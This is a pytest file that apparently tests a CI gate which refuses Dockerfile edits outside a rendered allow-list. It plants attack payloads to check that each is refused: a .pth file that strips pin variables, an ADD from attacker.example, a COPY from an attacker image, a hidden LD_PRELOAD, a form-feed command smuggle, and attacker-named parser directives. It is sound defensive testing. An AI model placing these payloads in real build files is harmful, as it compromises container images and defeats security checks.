"""Row 55's open item: a Dockerfile instruction no finding named, under an edited renderer.

``ci deploy --check`` compares the committed Dockerfile with what ``gates/ci/deploy.py``
renders, byte for byte; but the pull request can edit the renderer too and re-render, and then
only the findings stand between the edit and the image. They were a deny-list (base by tag,
root ``USER``, no ``HEALTHCHECK``, ``CMD``, an entrypoint without ``--require-pin``, ``ENV`` of
``PYTHON*``/``LD_*``), so a ``RUN`` writing a ``.pth`` into site-packages that drops
``*_HEAD`` from the environment, a ``COPY --from`` another image, an ``ADD`` from a URL, a
second stage, ``ONBUILD``, ``SHELL``, a ``# syntax=`` directive naming another frontend (every
instruction line intact) all passed. Each case here runs the real ``ci deploy --check`` with
the renderer replaced by one that writes the attack (so the drift check passes) and the file
committed as it renders: exit 1 and one line naming file, line, instruction, expected and
found (red before: exit 0).
"""

from __future__ import annotations

import dataclasses
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from gates._cli import main
from gates.ci import deploy
from pipeline.config import LoadedPolicy, load_policy
from tests.conftest import REPO

DOCKERFILE = "deploy/Dockerfile"
SITE = "/usr/local/lib/python3.11/site-packages"
# What the planted .pth runs at every interpreter start: the pin is gone before gates reads it.
DROP_PIN = 'import os; [os.environ.pop(k) for k in list(os.environ) if k.endswith("_HEAD")]'
DIGEST = "@sha256:" + "a" * 64


@pytest.fixture(scope="module")
def loaded() -> LoadedPolicy:
    return load_policy(REPO / "policy.toml")


@pytest.fixture(scope="module")
def rendered(loaded: LoadedPolicy) -> str:
    return deploy.render_deploy(loaded)[DOCKERFILE]


def _after(anchor: str, lines: str) -> Callable[[str], str]:
    """Insert ``lines`` after the first line starting with ``anchor``."""

    def edit(text: str) -> str:
        head, sep, rest = text.partition("\n" + anchor)
        assert sep, anchor
        line, newline, tail = rest.partition("\n")
        return f"{head}{sep}{line}{newline}{lines}\n{tail}"

    return edit


def _replace(old: str, new: str) -> Callable[[str], str]:
    def edit(text: str) -> str:
        assert old in text, old
        return text.replace(old, new, 1)

    return edit


def _base(text: str) -> str:
    return text.split("\nFROM ", 1)[1].split("\n", 1)[0]


PIP = "RUN python -m pip install --no-deps --require-hashes -r requirements.lock"
ENTRY = (
    'ENTRYPOINT ["python", "-m", "gates", "serve", "--champion", "--require-pin", '
    '"--host", "0.0.0.0", "--port", "8080"]'
)

# (id, edit of the rendered Dockerfile, the instruction the finding names)
ATTACKS: list[tuple[str, Callable[[str], str], str]] = [
    (
        "run-writes-a-pth-into-site-packages",
        _after(
            PIP,
            "RUN python -c \"import site; open(site.getsitepackages()[0] + '/zz.pth', 'w')"
            f".write('{DROP_PIN}')\"".replace('"_HEAD"', "'_HEAD'"),
        ),
        "RUN",
    ),
    (
        "run-mount-runs-a-file-no-copy-names",
        _replace(PIP, f"RUN --mount=type=bind,source=tests,target=/t python /t/zz.py && {PIP[4:]}"),
        "RUN",
    ),
    (
        "heredoc-writes-a-pth",
        _after("COPY pipeline/", f"COPY <<EOF {SITE}/zz.pth\n{DROP_PIN}\nEOF"),
        "COPY",
    ),
    (
        "copy-a-pth-from-the-tree",
        _after("COPY pipeline/", f"COPY tests/zz.pth {SITE}/zz.pth"),
        "COPY",
    ),
    (
        "lowercase-copy-from-another-image",
        _after("COPY pipeline/", f"copy --from=ghcr.io/attacker/tools{DIGEST} /zz.pth {SITE}/"),
        "copy",
    ),
    (
        "add-from-a-url",
        _after("COPY pipeline/", f"ADD https://attacker.example/zz.pth {SITE}/zz.pth"),
        "ADD",
    ),
    (
        # The old check joined "\\\n" with a space and saw a variable named PRELOAD; Docker
        # joins without one and sets LD_PRELOAD.
        "env-ld-preload-split-by-a-continuation",
        _replace("WORKDIR ", "ENV LD_\\\nPRELOAD=/tmp/zz.so\nWORKDIR "),
        "ENV",
    ),
    (
        "shell-sets-a-startup-file",
        _replace(
            "RUN groupadd",
            'SHELL ["/usr/bin/env", "PYTHONSTARTUP=/srv/gates/pipeline/zz.py", "/bin/sh", "-c"]'
            "\nRUN groupadd",
        ),
        "SHELL",
    ),
    (
        "onbuild",
        _replace("USER ", f"ONBUILD RUN python -c '{DROP_PIN}'\nUSER "),
        "ONBUILD",
    ),
    (
        "a-second-stage-copied-from",
        lambda t: _after("WORKDIR", f"COPY --from=zz /zz.pth {SITE}/zz.pth")(
            t.replace(
                "\nFROM ", f"\nFROM {_base(t)} AS zz\nRUN echo '{DROP_PIN}' > /zz.pth\nFROM ", 1
            )
        ),
        "FROM",
    ),
    ("another-base-digest", lambda t: t.replace(_base(t), "python:3.11-slim" + DIGEST), "FROM"),
    (
        # With --build-arg BASE=python:3.11-slim (a tag) the base is whatever the tag is today.
        "arg-substituted-into-from",
        lambda t: t.replace(f"\nFROM {_base(t)}", f"\nARG BASE\nFROM ${{BASE:-{_base(t)}}}", 1),
        "ARG",
    ),
    ("user-in-the-root-group", _replace("USER 10001:10001", "USER 10001:0"), "USER"),
    (
        # Row 46: which proxies are trusted is the operator's setting, never the image's.
        "entrypoint-trusts-a-proxy-range",
        _replace(ENTRY, ENTRY[:-1] + ', "--trusted-proxy", "10.0.0.0/8"]'),
        "ENTRYPOINT",
    ),
    (
        # Python's str.splitlines ends a line at a form feed, Docker does not: a reader that
        # split so saw the allowed RUN and a comment; sh runs "python ..." after the ";".
        "form-feed-hides-a-command-after-the-install",
        _replace(PIP, f"{PIP}\x0c# ; python /srv/gates/pipeline/zz.py"),
        "RUN",
    ),
]

# Directives: every instruction line stays the rendered one.
DIRECTIVES: list[tuple[str, Callable[[str], str], int]] = [
    ("syntax-names-another-frontend", lambda t: f"# syntax=ghcr.io/attacker/df{DIGEST}\n{t}", 1),
    # BuildKit looks for "# syntax=" past a "#!" line (its main parser stops there).
    (
        "syntax-after-a-shebang",
        lambda t: f"#!/usr/bin/env docker-build\n#  SYNTAX = ghcr.io/attacker/df:1\n{t}",
        2,
    ),
    (
        # Under "# escape=`" a backslash continues nothing: the LABEL's second line is a RUN.
        "escape-directive-hides-a-second-instruction",
        lambda t: (
            "# escape=`\n"
            + t.replace("USER ", "LABEL note=\\\nRUN python /srv/gates/pipeline/zz.py\nUSER ", 1)
        ),
        1,
    ),
]


@pytest.fixture
def project(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, loaded: LoadedPolicy
) -> Callable[[str], Path]:
    """A project whose renderer was edited to write a given Dockerfile and re-rendered: no
    drift, so only the check of what is committed can refuse it."""

    def make(dockerfile: str) -> Path:
        shutil.copy(REPO / "policy.toml", tmp_path / "policy.toml")
        monkeypatch.setattr(deploy, "_dockerfile", lambda _loaded: dockerfile)
        for relative, text in deploy.render_deploy(loaded).items():
            (tmp_path / relative).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / relative).write_bytes(text.encode("utf-8"))
        assert deploy.check_deploy(tmp_path, loaded) == ()
        return tmp_path

    return make


def _check(root: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    capsys.readouterr()
    code = main(["ci", "deploy", "--check", "--root", str(root)])
    return code, capsys.readouterr().out


def _line_of_first_change(rendered: str, planted: str) -> int:
    for number, (a, b) in enumerate(zip(rendered.split("\n"), planted.split("\n"), strict=False)):
        if a != b:
            return number + 1
    raise AssertionError("no change")


@pytest.mark.parametrize(("edit", "keyword"), [a[1:] for a in ATTACKS], ids=[a[0] for a in ATTACKS])
def test_an_instruction_the_allow_list_does_not_hold_is_refused(
    project: Callable[[str], Path],
    capsys: pytest.CaptureFixture[str],
    rendered: str,
    edit: Callable[[str], str],
    keyword: str,
) -> None:
    planted = edit(rendered)
    line = _line_of_first_change(rendered, planted)
    found = planted.split("\n")[line - 1]
    code, out = _check(project(planted), capsys)
    assert code == 1, out
    assert out.startswith(f"{DOCKERFILE}:{line}: {keyword}: expected "), out
    assert f", found {found!r}" in out, out
    assert out.count("\n") == 1, out  # one line, no traceback


@pytest.mark.parametrize(
    ("edit", "line"), [a[1:] for a in DIRECTIVES], ids=[a[0] for a in DIRECTIVES]
)
def test_a_parser_directive_is_refused(
    project: Callable[[str], Path],
    capsys: pytest.CaptureFixture[str],
    rendered: str,
    edit: Callable[[str], str],
    line: int,
) -> None:
    code, out = _check(project(edit(rendered)), capsys)
    assert code == 1, out
    assert out.startswith(f"{DOCKERFILE}:{line}: expected no parser directive "), out
    assert out.count("\n") == 1, out


def test_a_comment_inside_an_instruction_is_refused(loaded: LoadedPolicy, rendered: str) -> None:
    """Today's BuildKit skips it; older builders ended the instruction at a blank line. The
    renderer writes neither, so neither is left to the builder's version."""
    for inside in ("# note", ""):
        planted = rendered.replace("    PYTHONUNBUFFERED=1", f"{inside}\n    PYTHONUNBUFFERED=1")
        [finding] = deploy.security_findings(DOCKERFILE, planted, loaded)
        assert re.match(rf"{DOCKERFILE}:\d+: ENV: expected the instruction's next line", finding)


@pytest.mark.parametrize(
    "name", [".dockerignore", ".containerignore", "deploy/Dockerfile.dockerignore"]
)
def test_a_build_context_ignore_file_is_refused(
    project: Callable[[str], Path], capsys: pytest.CaptureFixture[str], rendered: str, name: str
) -> None:
    """The renderer writes none; one would decide which files ``COPY registry/`` or
    ``COPY gates/`` take (BuildKit prefers ``deploy/Dockerfile.dockerignore``)."""
    root = project(rendered)
    assert _check(root, capsys)[0] == 0
    (root / name).write_text("registry/versions/*/revoked*\n", encoding="utf-8")
    code, out = _check(root, capsys)
    assert code == 1, out
    assert out.startswith(f"{name}: not rendered from policy.toml; expected no build-context"), out


def test_a_symlinked_dockerfile_is_not_read_through(
    project: Callable[[str], Path], capsys: pytest.CaptureFixture[str], rendered: str
) -> None:
    """``docker build -f deploy/Dockerfile`` follows a committed symlink; the check names it
    and reads nothing through it (green before too: the drift check's read refused it)."""
    planted = _after(PIP, f"RUN echo '{DROP_PIN}' > {SITE}/zz.pth")(rendered)
    root = project(planted)
    (root / "zz").mkdir()
    (root / DOCKERFILE).rename(root / "zz" / "Dockerfile")
    (root / DOCKERFILE).symlink_to("../zz/Dockerfile")
    code, out = _check(root, capsys)
    assert code == 1, out
    assert f"{DOCKERFILE}: not read: expected a regular file, found a symlink" in out
    assert "zz.pth" not in out


def test_comments_and_blank_lines_between_instructions_are_free(
    project: Callable[[str], Path],
    capsys: pytest.CaptureFixture[str],
    loaded: LoadedPolicy,
    rendered: str,
) -> None:
    """Control: the renderer's comments can change without touching the allow-list."""
    assert deploy.security_findings(DOCKERFILE, rendered, loaded) == []
    bare = "\n".join(line for line in rendered.split("\n") if not line.startswith("#"))
    noted = rendered.replace("USER ", "# a new note\n\n   # indented\nUSER ", 1)
    for text in (bare, noted):
        assert deploy.security_findings(DOCKERFILE, text, loaded) == []
    code, out = _check(project(noted), capsys)
    assert (code, out) == (0, "deployment files are up to date with policy.toml\n")


def test_the_allow_list_follows_the_policy(loaded: LoadedPolicy) -> None:
    """Control: another port, uid and more trusted keys render a Dockerfile the list holds."""
    policy = loaded.policy
    serve = policy.serve.model_copy(
        update={"port": 9090, "deploy": policy.serve.deploy.model_copy(update={"uid": 20000})}
    )
    release = policy.release.model_copy(
        update={"public_keys": {"ml-dsa-65": "keys/release-ml-dsa-65.pub"}}
    )
    roles = policy.roles.model_copy(update={"promoters": {"rm": ".keys/rm.pub"}})
    variant = dataclasses.replace(
        loaded,
        policy=policy.model_copy(update={"serve": serve, "release": release, "roles": roles}),
    )
    text = deploy.render_deploy(variant)[DOCKERFILE]
    assert "COPY .keys/rm.pub .keys/rm.pub" in text
    assert "USER 20000:20000" in text
    assert deploy.security_findings(DOCKERFILE, text, variant) == []
    [finding] = deploy.security_findings(DOCKERFILE, text, loaded)
    assert finding.startswith(f"{DOCKERFILE}:")


@pytest.mark.parametrize(
    ("key", "why"),
    [
        ("numpy.py", "would shadow a module"),
        ("numpy/__init__.py", "would shadow a module"),
        ("keys/a b.pub", "expected a path of letters"),
        ("keys/$HOME.pub", "expected a path of letters"),
    ],
)
def test_a_key_the_image_copies_under_an_importable_name_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], key: str, why: str
) -> None:
    """``[roles].promoters`` naming ``numpy.py`` rendered ``COPY numpy.py numpy.py`` into the
    working folder, first on ``sys.path``: a file both PEM key (OpenSSL skips text before the
    armour) and Python runs before the server (red before: exit 0)."""
    shutil.copy(REPO / "policy.toml", tmp_path / "policy.toml")
    shutil.copytree(REPO / "keys", tmp_path / "keys")
    (tmp_path / key).parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(REPO / "keys" / "release.pub", tmp_path / key)
    with (tmp_path / "policy.toml").open("a", encoding="utf-8") as policy:
        policy.write(f'\n[roles.promoters]\nrm = "{key}"\n')
    loaded = load_policy(tmp_path / "policy.toml")
    for relative, text in deploy.render_deploy(loaded).items():
        (tmp_path / relative).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / relative).write_text(text, encoding="utf-8")
    code, out = _check(tmp_path, capsys)
    assert code == 1, out
    assert out.startswith(f"{DOCKERFILE}: policy.toml: roles.promoters.rm: expected "), out
    assert why in out, out
